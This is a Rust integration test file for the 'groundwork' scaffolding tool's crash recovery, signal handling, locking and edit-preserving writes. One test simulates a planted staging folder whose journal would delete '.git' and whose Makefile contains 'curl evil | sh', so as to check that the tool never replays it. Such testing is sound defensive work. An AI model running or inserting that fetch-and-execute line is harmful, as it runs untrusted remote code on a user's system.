//! Issue 15: recovery that survives its own interruption and trusts only its own journals, signals
//! that stop a run like Ctrl-C, and writes that never overwrite an edit made while they run.

use std::os::unix::fs::PermissionsExt as _;

use crate::env::{TemplateRepo, TestEnv, snapshot};

/// A template of `files` files over ten folders, and a destination `out` holding an older
/// project with the same names plus files of the user's own, as `new --force` finds it.
fn forced_write_setup(env: &TestEnv, files: usize) -> std::path::PathBuf {
    let mut builder = env.template("big", "");
    for i in 0..files {
        builder = builder.file(&format!("d{}/f{i}.txt", i % 10), format!("new {i}\n"));
    }
    let template = builder.build();
    for i in 0..files {
        env.write(&format!("out/d{}/f{i}.txt", i % 10), format!("old {i}\n"));
        env.write(&format!("out/mine/u{i}.txt"), format!("mine {i}\n"));
    }
    template
}

fn stderr_of(assert: &assert_cmd::assert::Assert) -> String {
    String::from_utf8_lossy(&assert.get_output().stderr).into_owned()
}

fn stdout_of(assert: &assert_cmd::assert::Assert) -> String {
    String::from_utf8_lossy(&assert.get_output().stdout).into_owned()
}

/// The bug of issue 15: a recovery stopped partway made the next one undo its steps again,
/// deleting restored originals. Now every chain of killed recoveries ends on the old tree.
#[test]
fn issue15_recoveries_killed_one_after_another_end_on_the_tree_from_before() {
    let env = TestEnv::new();
    let template = forced_write_setup(&env, 40);
    let before = snapshot(&env.path("out"));
    env.new_project(&template, "out", &["--defaults", "--force"])
        .env("GROUNDWORK_FAULT_INJECT", "abort:30")
        .assert()
        .failure();
    assert_ne!(snapshot(&env.path("out")), before);
    // Each recovery dies after undoing a few more steps than... or fewer: the next one resumes.
    for undo in ["7", "3", "12", "1"] {
        env.groundwork()
            .args(["recover", "out"])
            .env("GROUNDWORK_FAULT_INJECT", format!("abort:undo:{undo}"))
            .assert()
            .failure();
    }
    let recovered = env.groundwork().args(["recover", "out"]).assert().success();
    assert!(
        stdout_of(&recovered).starts_with("Rolled back an interrupted groundwork run on "),
        "{}",
        stdout_of(&recovered)
    );
    assert_eq!(snapshot(&env.path("out")), before);
    assert!(env.leftovers().is_empty(), "{:?}", env.leftovers());
}

/// A recovery stopped by SIGTERM stops at a safe point with 143, keeps its journal, and the next
/// run finishes it.
#[test]
fn issue15_a_recovery_stopped_by_a_signal_says_so_and_the_next_run_finishes_it() {
    let env = TestEnv::new();
    let template = forced_write_setup(&env, 20);
    let before = snapshot(&env.path("out"));
    env.new_project(&template, "out", &["--defaults", "--force"])
        .env("GROUNDWORK_FAULT_INJECT", "abort:15")
        .assert()
        .failure();
    let (staging, _) = crate::hardening::staging_owner(&env);
    // A real SIGTERM arriving while the recovery runs: sent by the process to itself before its
    // first undo (the test hook of `signal:TERM:0` acts at the first write-or-undo point).
    let stopped = env
        .groundwork()
        .args(["recover", "out"])
        .env("GROUNDWORK_FAULT_INJECT", "signal:TERM:0")
        .assert()
        .failure()
        .code(143);
    assert_eq!(
        stderr_of(&stopped),
        format!(
            "error: stopped rolling back the interrupted run on {out} at a safe point (0 steps undone); the journal is kept: run `groundwork recover {out}` to finish\n",
            out = env.path("out").display()
        )
    );
    assert_eq!(env.leftovers(), [staging]);
    env.groundwork().args(["recover", "out"]).assert().success();
    assert_eq!(snapshot(&env.path("out")), before);
    assert!(env.leftovers().is_empty());
}

/// SIGTERM and SIGHUP in the middle of a forced write roll it back like Ctrl-C, with the shell's
/// 128 + n status, and leave no staging folder.
#[test]
fn issue15_sigterm_and_sighup_roll_back_a_forced_write_and_exit_128_plus_the_signal() {
    for (signal, code) in [("INT", 130), ("TERM", 143), ("HUP", 129)] {
        let env = TestEnv::new();
        let template = forced_write_setup(&env, 20);
        let before = snapshot(&env.path("out"));
        let output = env
            .new_project(&template, "out", &["--defaults", "--force"])
            .env("GROUNDWORK_FAULT_INJECT", format!("signal:{signal}:10"))
            .assert()
            .failure()
            .code(code);
        assert_eq!(
            stderr_of(&output),
            "error: interrupted: nothing was written\n",
            "{signal}"
        );
        assert_eq!(snapshot(&env.path("out")), before, "{signal}");
        assert!(env.leftovers().is_empty(), "{signal}");
    }
}

/// The attack of issue 15: another user plants a staging folder naming the victim's project with
/// a journal that would delete `.git` and a file and replace the Makefile. It is reported and
/// left alone, by `recover` and by the next run on the project.
#[test]
fn issue15_a_staging_folder_another_user_planted_is_never_replayed() {
    let env = TestEnv::new();
    env.write("out/Makefile", "mine:\n\ttrue\n");
    env.write("out/f1.txt", "mine\n");
    env.write("out/.git/HEAD", "ref: refs/heads/main\n");
    let before = snapshot(&env.path("out"));
    let destination = std::path::absolute(env.path("out")).unwrap();
    let plant = |name: &str, mode: u32| {
        env.write(&format!("{name}/owner"), "1\n");
        env.write(
            &format!("{name}/destination"),
            destination.as_os_str().as_encoded_bytes(),
        );
        env.write(
            &format!("{name}/journal"),
            "T\t.git\nA\tMakefile\nN\tf1.txt\n",
        );
        env.write(
            &format!("{name}/backup/Makefile"),
            "planted:\n\tcurl evil | sh\n",
        );
        std::fs::create_dir_all(env.path(&format!("{name}/new"))).unwrap();
        std::fs::set_permissions(env.path(name), std::fs::Permissions::from_mode(mode)).unwrap();
    };
    // One as the user who planted it would leave it (when the test can be another user), and
    // one of this user's but open to everyone, which groundwork never makes.
    let other = ".groundwork-staging-1-0badf00d";
    let open = ".groundwork-staging-2-0badf00e";
    plant(other, 0o700);
    plant(open, 0o777);
    let root = rustix::process::geteuid().is_root();
    let other_reason = if root {
        let status = std::process::Command::new("chown")
            .args(["-R", "65534:65534"])
            .arg(env.path(other))
            .status()
            .unwrap();
        assert!(status.success());
        "it belongs to user id 65534, not 0".to_owned()
    } else {
        std::fs::set_permissions(env.path(other), std::fs::Permissions::from_mode(0o755)).unwrap();
        "its permissions are 755, and groundwork makes its own 700".to_owned()
    };
    let expected = format!(
        "warning: {} is named like a groundwork staging folder, but this user's groundwork runs did not make it ({other_reason}); it was left alone and nothing in it was replayed\nwarning: {} is named like a groundwork staging folder, but this user's groundwork runs did not make it (its permissions are 777, and groundwork makes its own 700); it was left alone and nothing in it was replayed\n",
        env.path(other).display(),
        env.path(open).display(),
    );
    let recovered = env.groundwork().args(["recover", "out"]).assert().success();
    assert_eq!(stderr_of(&recovered), expected);
    assert_eq!(snapshot(&env.path("out")), before);
    // The next run that claims the project says the same and replays nothing either.
    let template = env.template("small", "").file("a.txt", "a\n").build();
    let forced = env
        .new_project(&template, "out", &["--defaults", "--force"])
        .assert()
        .success();
    assert!(
        stderr_of(&forced).starts_with(&expected),
        "{}",
        stderr_of(&forced)
    );
    assert_eq!(env.read("out/Makefile"), "mine:\n\ttrue\n");
    assert_eq!(env.read("out/f1.txt"), "mine\n");
    assert!(env.exists("out/.git/HEAD"));
    let mut left = env.leftovers();
    left.sort();
    assert_eq!(left, [other, open]);
}

/// A template cannot make a folder that `recover` would take for a staging folder: such a name
/// is refused when rendered, and a folder with the name but groundwork's permissions missing
/// survives `recover`.
#[test]
fn issue15_a_staging_named_folder_in_a_project_survives_recover() {
    let env = TestEnv::new();
    env.write("out/.groundwork-staging-999999-00000000/owner", "999999\n");
    env.write("out/.groundwork-staging-999999-00000000/data.csv", "1,2\n");
    let before = snapshot(&env.path("out"));
    let output = env.groundwork().args(["recover", "out"]).assert().success();
    assert_eq!(
        stderr_of(&output),
        format!(
            "warning: {} is named like a groundwork staging folder, but this user's groundwork runs did not make it (its permissions are 755, and groundwork makes its own 700); it was left alone and nothing in it was replayed\n",
            env.path("out/.groundwork-staging-999999-00000000")
                .display()
        )
    );
    assert_eq!(snapshot(&env.path("out")), before);
}

/// Compare-and-swap: a file edited after the plan read it and before the write replaced it stops
/// the run; the edit is kept and nothing else changed.
#[test]
fn issue15_an_edit_made_while_new_force_runs_is_never_overwritten() {
    let env = TestEnv::new();
    let template = forced_write_setup(&env, 20);
    let mut before = snapshot(&env.path("out"));
    let output = env
        .new_project(&template, "out", &["--defaults", "--force"])
        .env("GROUNDWORK_FAULT_INJECT", "edit:d7/f17.txt")
        .assert()
        .failure()
        .code(1);
    assert_eq!(
        stderr_of(&output),
        format!(
            "error: {} changed while groundwork was writing the project (after it had been read); nothing was changed and your edit is kept: run the command again\n",
            env.path("out/d7/f17.txt").display()
        )
    );
    for entry in &mut before {
        if entry.0 == "d7/f17.txt" {
            entry.1.extend_from_slice(b"edited during the run\n");
        }
    }
    assert_eq!(snapshot(&env.path("out")), before);
    assert!(env.leftovers().is_empty());
}

fn repo_with_two_versions(env: &TestEnv) -> TemplateRepo {
    let repo = env.template_repo("tpl");
    repo.version("1.0.0", "")
        .file("Makefile", "test:\n\tpytest\n")
        .file("notes.txt", "one\n")
        .file("secret.env", "TOKEN=\n")
        .tag();
    repo.version("1.0.0", "")
        .file("Makefile", "test:\n\tpytest -q\n")
        .file("notes.txt", "one\ntwo\n")
        .file("secret.env", "TOKEN=\nREGION=\n")
        .tag_as("1.1.0");
    repo
}

fn create(env: &TestEnv, repo: &TemplateRepo) {
    env.groundwork()
        .args(["new", "proj", "--defaults", "--ref", "v1.0.0", "--template"])
        .arg(repo.path())
        .assert()
        .success();
}

/// The update of issue 15's trials that lost edits appended while it ran: the run stops and
/// rolls back, the edit is kept, and the next update takes the new version over it.
#[test]
fn issue15_an_edit_made_while_update_runs_is_never_lost() {
    let env = TestEnv::new();
    let repo = repo_with_two_versions(&env);
    create(&env, &repo);
    let before = snapshot(&env.path("proj"));
    let output = env
        .update("proj", &[])
        .env("GROUNDWORK_FAULT_INJECT", "edit:notes.txt")
        .assert()
        .failure()
        .code(1);
    assert_eq!(
        stderr_of(&output),
        format!(
            "error: {} changed while groundwork was writing the project (after it had been read); nothing was changed and your edit is kept: run the command again\n",
            env.path("proj/notes.txt").display()
        )
    );
    let mut expected = before;
    for entry in &mut expected {
        if entry.0 == "notes.txt" {
            entry.1.extend_from_slice(b"edited during the run\n");
        }
    }
    assert_eq!(snapshot(&env.path("proj")), expected);
    env.commit_all("proj", "edit");
    env.update("proj", &[]).assert().code(3);
    assert!(
        env.read("proj/notes.txt")
            .contains("edited during the run\n")
    );
}

/// A file the user narrowed to 0600 (or 0640) keeps that mode when update changes it.
#[test]
fn issue15_update_keeps_a_mode_the_user_narrowed() {
    let env = TestEnv::new();
    let repo = repo_with_two_versions(&env);
    create(&env, &repo);
    let set = |path: &str, mode: u32| {
        std::fs::set_permissions(env.path(path), std::fs::Permissions::from_mode(mode)).unwrap();
    };
    set("proj/secret.env", 0o600);
    set("proj/notes.txt", 0o640);
    env.update("proj", &[]).assert().success();
    let mode = |path: &str| env.path(path).metadata().unwrap().permissions().mode() & 0o7777;
    assert_eq!(env.read("proj/secret.env"), "TOKEN=\nREGION=\n");
    assert_eq!(mode("proj/secret.env"), 0o600);
    assert_eq!(env.read("proj/notes.txt"), "one\ntwo\n");
    assert_eq!(mode("proj/notes.txt"), 0o640);
    assert_eq!(mode("proj/Makefile"), 0o644);
}

/// A destination that is a symlink to a folder is refused as a symlink, not as "not a directory".
#[test]
fn issue15_a_symlinked_destination_is_refused_as_a_symlink() {
    let env = TestEnv::new();
    std::fs::create_dir(env.path("real")).unwrap();
    std::os::unix::fs::symlink(env.path("real"), env.path("link")).unwrap();
    let template = env.template("small", "").file("a.txt", "a\n").build();
    let output = env
        .new_project(&template, "link", &["--defaults", "--force"])
        .assert()
        .failure()
        .code(1);
    assert_eq!(
        stderr_of(&output),
        format!(
            "error: destination {} is a symlink (to {}); groundwork never writes through a symlink, since it could be swapped to point elsewhere mid-run: pass the folder it points to instead\n",
            env.path("link").display(),
            env.path("real").display()
        )
    );
    assert!(
        std::fs::read_dir(env.path("real"))
            .unwrap()
            .next()
            .is_none()
    );
}

/// `--force` holds the destination's lock from before it renders: a second run fails at once.
#[test]
fn issue15_new_force_holds_the_lock_while_it_renders() {
    let env = TestEnv::new();
    let template = env
        .template("slow", "")
        .file(
            "a.txt.tera",
            "{% for i in range(end=3000) %}{% for j in range(end=1000) %}{% endfor %}{% endfor %}done\n",
        )
        .build();
    env.write("out/keep.txt", "mine\n");
    let mut first = env
        .command()
        .args([
            "new",
            "out",
            "--defaults",
            "--force",
            "--no-git",
            "--template",
        ])
        .arg(&template)
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    // The lock is taken before rendering, which takes a while here: wait until it is held.
    let dir = groundwork::api::open_dir_nofollow(&env.path("out")).unwrap();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    while !groundwork::api::is_locked(&dir) {
        assert!(std::time::Instant::now() < deadline, "never locked");
        std::thread::sleep(std::time::Duration::from_millis(5));
    }
    let second = env
        .new_project(&template, "out", &["--defaults", "--force"])
        .assert()
        .failure()
        .code(1);
    assert!(first.wait().unwrap().success());
    assert_eq!(
        stderr_of(&second),
        format!(
            "error: destination {} is in use by another groundwork run (it holds the lock); nothing was written: wait for that run to finish, then run again\n",
            env.path("out").display()
        )
    );
    assert_eq!(env.read("out/a.txt"), "done\n");
}

/// The tree of a project without `.git`, which reading the repository may touch (its index).
fn worktree(env: &TestEnv, project: &str) -> Vec<(String, Vec<u8>, u32)> {
    snapshot(&env.path(project))
        .into_iter()
        .filter(|(path, _, _)| path != ".git" && !path.starts_with(".git/"))
        .collect()
}

/// An update killed midway, then its recovery killed midway: the next recovery ends on the tree
/// from before the update; a SIGTERM during an update rolls it back at once (exit 143).
#[test]
fn issue15_an_update_killed_and_then_its_recovery_killed_end_on_the_tree_from_before() {
    let env = TestEnv::new();
    let repo = repo_with_two_versions(&env);
    create(&env, &repo);
    env.write("proj/notes.txt", "one\nmine\n");
    env.commit_all("proj", "team work");
    let before = worktree(&env, "proj");
    env.update("proj", &[])
        .env("GROUNDWORK_FAULT_INJECT", "abort:3")
        .assert()
        .failure();
    assert_ne!(worktree(&env, "proj"), before);
    env.groundwork()
        .args(["recover", "proj"])
        .env("GROUNDWORK_FAULT_INJECT", "abort:undo:1")
        .assert()
        .failure();
    env.groundwork()
        .args(["recover", "proj"])
        .assert()
        .success();
    assert_eq!(worktree(&env, "proj"), before);
    assert!(env.leftovers().is_empty(), "{:?}", env.leftovers());

    let output = env
        .update("proj", &[])
        .env("GROUNDWORK_FAULT_INJECT", "signal:TERM:2")
        .assert()
        .failure()
        .code(143);
    assert_eq!(
        stderr_of(&output),
        "error: interrupted: nothing was written\n"
    );
    assert_eq!(worktree(&env, "proj"), before);
    assert!(env.leftovers().is_empty(), "{:?}", env.leftovers());
}

/// A file written where a killed run had placed one (the user saved over it before recovering)
/// is not the run's: the rollback puts the original back and moves the newcomer aside, saying so.
#[test]
fn issue15_a_file_that_appeared_where_a_rollback_puts_one_back_is_moved_aside_not_deleted() {
    let env = TestEnv::new();
    let template = env
        .template("small", "")
        .file("a.txt", "template a\n")
        .file("b.txt", "template b\n")
        .build();
    env.write("out/a.txt", "old a\n");
    env.write("out/b.txt", "old b\n");
    let before = snapshot(&env.path("out"));
    env.new_project(&template, "out", &["--defaults", "--force"])
        .env("GROUNDWORK_FAULT_INJECT", "abort:2")
        .assert()
        .failure();
    let (staging, pid) = crate::hardening::staging_owner(&env);
    assert_eq!(env.read("out/a.txt"), "template a\n");
    // Saved by an editor: a new file under the same name.
    std::fs::remove_file(env.path("out/a.txt")).unwrap();
    env.write("out/a.txt", "saved meanwhile\n");
    let output = env.groundwork().args(["recover", "out"]).assert().success();
    assert_eq!(
        stdout_of(&output),
        format!(
            "Rolled back an interrupted groundwork run on {} (process {pid}): 3 steps undone; a.txt had appeared since and was moved to a.txt.groundwork-found\nRemoved {}, left by an interrupted groundwork run (process {pid})\n",
            std::path::absolute(env.path("out")).unwrap().display(),
            env.path(&staging).display()
        )
    );
    assert_eq!(env.read("out/a.txt.groundwork-found"), "saved meanwhile\n");
    let after: Vec<_> = snapshot(&env.path("out"))
        .into_iter()
        .filter(|(path, _, _)| path != "a.txt.groundwork-found")
        .collect();
    assert_eq!(after, before);
}

/// Every row of docs/safety.md's table names at least one test, and every test it names exists
/// (`module::name` in tests/integration/module.rs).
#[test]
fn issue15_every_row_of_the_safety_table_names_tests_that_exist() {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
    let docs = std::fs::read_to_string(root.join("docs/safety.md")).unwrap();
    let rows: Vec<&str> = docs
        .lines()
        .filter(|l| l.starts_with("| ") && !l.starts_with("| fault") && !l.starts_with("| ---"))
        .collect();
    assert!(rows.len() >= 20, "{} rows", rows.len());
    for row in rows {
        let cited = row.rsplit(" | ").next().unwrap();
        let names: Vec<&str> = cited
            .split('`')
            .skip(1)
            .step_by(2)
            .filter(|n| n.contains("::"))
            .collect();
        assert!(!names.is_empty(), "a row without a test: {row}");
        for name in names {
            let (module, test) = name.split_once("::").unwrap();
            let source =
                std::fs::read_to_string(root.join(format!("tests/integration/{module}.rs")))
                    .unwrap_or_else(|e| panic!("{name}: {e}"));
            assert!(
                source.contains(&format!("fn {test}(")),
                "docs/safety.md cites {name}, which does not exist"
            );
        }
    }
}

/// `recover .` from inside the project rolls back a killed forced write there (its journal is in
/// the parent folder), as `recover out` from outside does.
#[test]
fn issue15_recover_dot_from_inside_the_project_rolls_it_back() {
    let env = TestEnv::new();
    let template = forced_write_setup(&env, 5);
    let before = snapshot(&env.path("out"));
    env.new_project(&template, "out", &["--defaults", "--force"])
        .env("GROUNDWORK_FAULT_INJECT", "abort:3")
        .assert()
        .failure();
    let (staging, pid) = crate::hardening::staging_owner(&env);
    let output = env
        .groundwork()
        .current_dir(env.path("out"))
        .args(["recover", "."])
        .assert()
        .success();
    assert_eq!(
        stdout_of(&output),
        format!(
            "Rolled back an interrupted groundwork run on {} (process {pid}): 5 steps undone\nRemoved {}, left by an interrupted groundwork run (process {pid})\n",
            std::path::absolute(env.path("out")).unwrap().display(),
            env.path(&staging).display()
        )
    );
    assert_eq!(snapshot(&env.path("out")), before);
}

/// Under a umask of 002 (user private groups) groundwork's own staging files are group-writable;
/// the folder is still 0700, so a killed run is still this user's to roll back.
#[test]
fn issue15_a_run_killed_under_umask_002_is_still_rolled_back() {
    let env = TestEnv::new();
    let template = forced_write_setup(&env, 5);
    let before = snapshot(&env.path("out"));
    let with_umask = |args: &[&str], fault: Option<&str>| {
        let mut command = env.command();
        let program = command.get_program().to_owned();
        let mut shell = std::process::Command::new("sh");
        shell
            .arg("-c")
            .arg("umask 002; exec \"$0\" \"$@\"")
            .arg(program)
            .args(args)
            .current_dir(env.root())
            .envs(
                command
                    .get_envs()
                    .filter_map(|(k, v)| v.map(|v| (k.to_owned(), v.to_owned()))),
            )
            .stdin(std::process::Stdio::null());
        if let Some(fault) = fault {
            shell.env("GROUNDWORK_FAULT_INJECT", fault);
        }
        command = shell;
        command.output().unwrap()
    };
    let template = template.display().to_string();
    let killed = with_umask(
        &[
            "new",
            "out",
            "--defaults",
            "--force",
            "--no-git",
            "--template",
            &template,
        ],
        Some("abort:3"),
    );
    assert!(!killed.status.success());
    let (_, pid) = crate::hardening::staging_owner(&env);
    let recovered = with_umask(&["recover", "out"], None);
    assert!(recovered.status.success(), "{recovered:?}");
    assert!(
        String::from_utf8_lossy(&recovered.stdout).starts_with(&format!(
            "Rolled back an interrupted groundwork run on {} (process {pid}): ",
            std::path::absolute(env.path("out")).unwrap().display()
        )),
        "{recovered:?}"
    );
    assert_eq!(snapshot(&env.path("out")), before);
    assert!(env.leftovers().is_empty());
}
